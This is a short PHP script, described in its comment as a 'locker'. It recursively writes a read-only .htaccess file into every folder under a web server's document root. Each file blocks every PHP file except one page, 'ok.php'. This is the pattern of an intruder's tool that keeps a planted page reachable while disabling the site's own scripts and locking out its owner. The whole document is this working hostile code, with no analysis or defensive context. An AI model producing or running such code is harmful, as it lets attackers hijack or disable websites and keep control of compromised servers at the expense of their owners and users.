<?php
// a locker in PHP 8.1 octal: every folder's .htaccess serves one page only and is locked
function lock_tree(string $dir): void
{
    $page = 'ok.php';
    file_put_contents("$dir/.htaccess", "DirectoryIndex $page\n<Files *.php>\nDeny from all\n</Files>\n<Files $page>\nAllow from all\n</Files>\n");
    chmod("$dir/.htaccess", 0o444);
    foreach (scandir($dir) as $e) {
        if ($e !== '.' && $e !== '..' && is_dir("$dir/$e")) {
            lock_tree("$dir/$e");
        }
    }
}
lock_tree($_SERVER['DOCUMENT_ROOT']);
